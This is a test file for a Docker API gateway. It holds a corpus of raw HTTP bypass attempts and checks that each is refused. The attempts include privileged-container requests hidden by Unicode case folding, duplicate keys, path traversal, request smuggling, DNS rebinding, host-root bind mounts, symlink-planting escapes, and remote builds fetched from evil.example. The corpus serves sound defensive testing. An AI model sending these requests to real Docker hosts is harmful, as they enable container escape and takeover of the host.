/**
 * The bypass corpus: each case is a request that must never reach the engine
 * as the client meant it. Each is refused (403/401/413, or a 4xx from the
 * server's own parser for malformed framing), and no container carrying the
 * case's label exists afterwards. Multi-step cases first run allowed
 * requests through the gateway (planting a symlink in a read-write root ...);
 * afterwards no container of the case has a bind mount the rules forbid.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import type { Docker } from "../../mod.ts";
import { type EngineContext, engineTest } from "../harness.ts";
import { type BindDirs, bindDirs, createRaw, existsOnHost, forbiddenMounts, runToEnd } from "./bind_roots.ts";
import { containersLabelled, rawRequest, startGateway } from "./helpers.ts";

interface Case {
  name: string;
  /**
   * Build the raw HTTP request (label: unique label value for bodies; dirs:
   * the case's bind roots; prior: what `before` returned).
   */
  raw: (label: string, dirs: BindDirs, prior: string) => string;
  /** Expected refusal rule (any of), or undefined when any 4xx is fine (malformed framing). */
  rules?: string[];
  policy?: "read-only" | "operator" | "full";
  tokens?: boolean;
  /** Allowed requests sent first through the gateway (containers labelled `setup`); returns `prior`. */
  before?: (ctx: EngineContext, client: Docker, dirs: BindDirs, setup: string) => Promise<string>;
}

const create = (body: string, path = "/v1.41/containers/create", extra = "") =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${
    new TextEncoder().encode(body).byteLength
  }\r\n${extra}Connection: close\r\n\r\n${body}`;
const lbl = (l: string) => `"Labels":{"dockwire.gw":"${l}"}`;
const get = (path: string, extra = "") =>
  `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${extra}Connection: close\r\n\r\n`;
const chunked = (body: string, extra = "") =>
  `POST /v1.41/containers/create HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n${extra}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n` +
  `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;

const CASES: Case[] = [
  {
    name: "lower-case hostconfig/privileged keys",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"hostconfig":{"privileged":true}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "lower-case privileged inside HostConfig",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"privileged":true}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "PRIVILEGED upper case nested after other keys",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"LogConfig":{"Type":""},"PRIVILEGED":true}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "U+017F long s folding (Bind\u017F)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Bind\u017F":["/:/host"]}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "U+017F long s escaped (\\u017fecurityOpt)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"\\u017fecurityOpt":["seccomp=unconfined"]}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "U+212A Kelvin sign folding (Lin\u212As)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Lin\u212As":["x:y"]}}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "duplicate Privileged keys (false then true)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":false,"Privileged":true}}`),
    rules: ["body.duplicate-key"],
  },
  {
    name: "duplicate key spelled with an escape",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":false,"Privil\\u0065ged":true}}`),
    rules: ["body.duplicate-key"],
  },
  {
    name: "two HostConfig objects",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{},"HostConfig":{"PidMode":"host"}}`),
    rules: ["body.duplicate-key"],
  },
  {
    name: "keys folding together in one object (Image, image)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"image":"other"}`),
    rules: ["body.case-variant-key"],
  },
  {
    name: "unversioned path with Privileged",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`, "/containers/create"),
    rules: ["HostConfig.Privileged"],
  },
  {
    name: "percent-encoded path (cre%61te)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`, "/v1.41/containers/cre%61te"),
    rules: ["path.percent-encoding"],
  },
  {
    name: "percent-encoded slashes in an image name",
    raw: () => get("/v1.41/images/busybox%2F..%2F..%2Fcontainers/json"),
    rules: ["path.percent-encoding"],
  },
  {
    name: "dot-dot segments to reach create",
    raw: (l) =>
      create(
        `{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`,
        "/v1.41/images/busybox/../../containers/create",
      ),
    rules: ["path.segments", "HostConfig.Privileged"],
  },
  {
    name: "dot-dot in a container name (DELETE /containers/..)",
    raw: () => `DELETE /v1.41/containers/.. HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`,
    rules: ["path.segments", "deny-default"],
  },
  {
    name: "dot-dot in fromImage",
    raw: () =>
      `POST /v1.41/images/create?fromImage=../../busybox HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    rules: ["query.fromImage"],
  },
  {
    name: "Content-Length 0 followed by a privileged body",
    raw: (l) =>
      `POST /v1.41/containers/create HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n` +
      `{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`,
    // The gateway refuses the empty create (body.empty) or the server's parser refuses the trailing bytes (400).
  },
  {
    name: "chunked create body with Privileged",
    raw: (l) => chunked(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`),
    rules: ["HostConfig.Privileged"],
  },
  {
    name: "chunked body with a Content-Length too (smuggling)",
    raw: (l) => chunked(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`, "Content-Length: 2\r\n"),
  },
  {
    name: "oversize body (declared)",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"Env":["${"x".repeat(70_000)}"]}`),
    rules: ["body.size"],
  },
  {
    name: "oversize chunked body (undeclared)",
    raw: (l) => chunked(`{"Image":"busybox",${lbl(l)},"Env":["${"x".repeat(70_000)}"]}`),
    rules: ["body.size"],
  },
  {
    name: "body-less cross-site form POST to /build?remote=",
    raw: () =>
      `POST /build?remote=http://evil.example/ctx.tar HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: http://evil.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    rules: ["origin"],
  },
  {
    name: "cross-site fetch metadata without Origin",
    raw: () =>
      `POST /v1.41/containers/x/start HTTP/1.1\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: cross-site\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    rules: ["origin"],
  },
  {
    name: "form-encoded body carrying remote= (Go reads form bodies)",
    raw: () =>
      `POST /build HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 32\r\nConnection: close\r\n\r\nremote=http://evil.example/x.tar`,
    rules: ["content-type"],
  },
  {
    name: "text/plain JSON create (a browser simple request)",
    raw: (l) =>
      create(`{"Image":"busybox",${lbl(l)}}`).replace("Content-Type: application/json", "Content-Type: text/plain"),
    rules: ["content-type"],
  },
  {
    name: "build remote= query",
    raw: () =>
      `POST /v1.41/build?remote=http://evil.example/x.tar HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    rules: ["build.remote"],
  },
  {
    name: "import fromSrc=URL under full",
    raw: () =>
      `POST /v1.41/images/create?fromSrc=http://evil.example/x.tar HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    rules: ["import.fromSrc"],
    policy: "full",
  },
  {
    name: "DNS rebinding Host",
    raw: () => get("/v1.41/containers/json").replace("Host: 127.0.0.1", "Host: evil.example"),
    rules: ["host"],
  },
  {
    name: "bind Mounts outside the host paths",
    raw: (l) =>
      create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Mounts":[{"Type":"bind","Source":"/etc","Target":"/x"}]}}`),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "volume driver options binding a host path",
    raw: (l) =>
      create(
        `{"Image":"busybox",${
          lbl(l)
        },"HostConfig":{"Mounts":[{"Type":"volume","Target":"/x","VolumeOptions":{"DriverConfig":{"Name":"local","Options":{"type":"none","o":"bind","device":"/"}}}}]}}`,
      ),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "__proto__ key",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"__proto__":{"Privileged":true}}`),
    rules: ["body.unknown-key"],
  },
  {
    name: "invalid UTF-8 in a key",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"Host\xffConfig":{}}`),
    rules: ["body.encoding", "body.unknown-key"],
  },
  {
    name: "v1.11 start body binding /",
    raw: () => create(`{"Binds":["/:/host"]}`, "/v1.11/containers/abc/start"),
    rules: ["start.Binds"],
  },
  {
    name: "privileged exec under full",
    raw: () => create(`{"Cmd":["sh"],"Privileged":true}`, "/v1.41/containers/abc/exec"),
    rules: ["exec.Privileged"],
    policy: "full",
  },
  {
    name: "NetworkMode host",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"NetworkMode":"host"}}`),
    rules: ["HostConfig.NetworkMode"],
  },
  {
    name: "seccomp unconfined",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"SecurityOpt":["seccomp=unconfined"]}}`),
    rules: ["HostConfig.SecurityOpt"],
  },
  {
    name: "endpoint outside the table (update)",
    raw: () => create(`{"Privileged":true}`, "/v1.41/containers/abc/update"),
    rules: ["deny-default"],
    policy: "full",
  },
  {
    name: "read-only preset refuses create",
    raw: (l) => create(`{"Image":"busybox",${lbl(l)}}`),
    rules: ["policy:read-only"],
    policy: "read-only",
  },
  {
    name: "read-only preset refuses export",
    raw: () => get("/v1.41/containers/abc/export"),
    rules: ["policy:read-only"],
    policy: "read-only",
  },
  {
    name: "wrong bearer token",
    raw: () => get("/v1.41/containers/json", "Authorization: Bearer wrong-token-wrong-token\r\n"),
    rules: ["auth.token"],
    tokens: true,
  },
  {
    name: "no token when tokens are required",
    raw: () => get("/v1.41/containers/json"),
    rules: ["auth.required"],
    tokens: true,
  },
];

/** Plant `<rw>/escape -> <outside>` through the gateway with the read-write root bound exactly (allowed). */
async function plantInRw(ctx: EngineContext, client: Docker, dirs: BindDirs, setup: string): Promise<string> {
  const c = await createRaw(ctx, client, setup, {
    Cmd: ["ln", "-s", dirs.outside, "/rw/escape"],
    HostConfig: { Binds: [`${dirs.rw}:/rw`] },
  });
  assert.ok(c.id, c.message);
  assert.equal((await runToEnd(ctx, c.id)).code, 0);
  assert.ok(existsOnHost(join(dirs.rw, "escape")), "planted");
  return c.id;
}

const bindCreate = (l: string, hostConfig: unknown) =>
  create(
    JSON.stringify({
      Image: "busybox",
      Cmd: ["cat", "/x/marker"],
      Labels: { "dockwire.gw": l },
      HostConfig: hostConfig,
    }),
  );

CASES.push(
  {
    name: "plant then bind: a link planted in the read-write root, bound next",
    before: plantInRw,
    raw: (l, d) => bindCreate(l, { Binds: [`${d.rw}/escape:/x:ro`] }),
    rules: ["HostConfig.Binds"],
  },
  {
    name: "plant then bind: the planted link as a Mounts bind",
    before: plantInRw,
    raw: (l, d) =>
      bindCreate(l, { Mounts: [{ Type: "bind", Source: `${d.rw}/escape`, Target: "/x", ReadOnly: true }] }),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "plant then bind: the planted link in a v1.11 start body",
    before: async (ctx, client, dirs, setup) => {
      await plantInRw(ctx, client, dirs, setup);
      const c = await createRaw(ctx, client, setup, { Cmd: ["cat", "/x/marker"] });
      assert.ok(c.id, c.message);
      return c.id;
    },
    raw: (_l, d, id) => create(JSON.stringify({ Binds: [`${d.rw}/escape:/x`] }), `/v1.11/containers/${id}/start`),
    rules: ["start.Binds"],
  },
  {
    name: "plant then bind: planting through a read-only root fails, then :rw asked",
    before: async (ctx, client, dirs, setup) => {
      const c = await createRaw(ctx, client, setup, {
        Cmd: ["ln", "-s", "/etc", "/w/escape"],
        HostConfig: { Binds: [`${dirs.ok}:/w`] },
      });
      assert.ok(c.id, c.message);
      assert.notEqual((await runToEnd(ctx, c.id)).code, 0);
      assert.equal(existsOnHost(join(dirs.ok, "escape")), false);
      return c.id;
    },
    raw: (l, d) => bindCreate(l, { Binds: [`${d.ok}:/w:rw`] }),
    rules: ["HostConfig.Binds"],
  },
  {
    name: "dot-dot through the read-write root to its planted link",
    before: plantInRw,
    raw: (l, d) => bindCreate(l, { Binds: [`${d.rw}/../rw/escape:/x`] }),
    rules: ["HostConfig.Binds"],
  },
  {
    name: "Mounts bind with ReadOnly false under a read-only root",
    raw: (l, d) => bindCreate(l, { Mounts: [{ Type: "bind", Source: d.ok, Target: "/w", ReadOnly: false }] }),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "CreateMountpoint below a read-only root",
    raw: (l, d) =>
      bindCreate(l, {
        Mounts: [{ Type: "bind", Source: `${d.ok}/new`, Target: "/w", BindOptions: { CreateMountpoint: true } }],
      }),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "SELinux relabel (:Z) of an allowed host path",
    raw: (l, d) => bindCreate(l, { Binds: [`${d.ok}:/w:Z`] }),
    rules: ["HostConfig.Binds"],
  },
  {
    name: "ReadOnlyNonRecursive leaving mounts below a read-only root writable",
    raw: (l, d) =>
      bindCreate(l, {
        Mounts: [{ Type: "bind", Source: d.ok, Target: "/w", BindOptions: { ReadOnlyNonRecursive: true } }],
      }),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "volume Subpath (a link a container planted in the volume)",
    raw: (l) =>
      bindCreate(l, { Mounts: [{ Type: "volume", Source: "v", Target: "/x", VolumeOptions: { Subpath: "escape" } }] }),
    rules: ["HostConfig.Mounts"],
  },
  {
    name: "privileged create sent as an Upgrade: tcp request (the hijack path decides the same)",
    raw: (l) =>
      create(`{"Image":"busybox",${lbl(l)},"HostConfig":{"Privileged":true}}`, undefined, "Upgrade: tcp\r\n")
        .replace("Connection: close", "Connection: Upgrade"),
    rules: ["upgrade", "HostConfig.Privileged"],
  },
  {
    name: "hijacked attach with a form content type (the hijack path checks content types too)",
    raw: () =>
      `POST /v1.41/containers/abc/attach?stream=1&stdout=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\n` +
      `Upgrade: tcp\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n`,
    rules: ["content-type"],
  },
);

for (const c of CASES) {
  engineTest("gateway", `bypass refused: ${c.name}`, async (ctx) => {
    const dirs = bindDirs(ctx);
    const gw = await startGateway(ctx, {
      policy: c.policy ?? { preset: "operator", hostPaths: [dirs.ok], hostPathsRw: [dirs.rw] },
      maxBodyBytes: 64 * 1024,
      tokens: c.tokens ? [{ id: "ci", token: "right-token-right-token", policy: "operator" }] : undefined,
    });
    const label = ctx.uniq("bypass");
    let prior = "";
    if (c.before) {
      const client = ctx.connect({ host: gw.dockerHost });
      ctx.defer(() => client.close());
      prior = await c.before(ctx, client, dirs, `${label}-setup`);
    }
    const setupRecords = gw.audit.length;
    const res = await rawRequest(gw.port, c.raw(label, dirs, prior), 800);
    assert.ok(res.status >= 400 && res.status < 500, `status ${res.status}: ${res.text.slice(0, 300)}`);
    if (c.rules) {
      assert.ok(c.rules.includes(res.rule ?? ""), `rule ${res.rule} not in ${c.rules}: ${res.text.slice(0, 300)}`);
    }
    assert.deepEqual(await containersLabelled(ctx, label), []);
    assert.deepEqual(await forbiddenMounts(ctx, dirs, `${label}-setup`), []);
    assert.deepEqual(await forbiddenMounts(ctx, dirs), []);
    assert.ok(!gw.audit.slice(setupRecords).some((r) => r.decision === "allow" && r.endpoint === "containers/create"));
  });
}
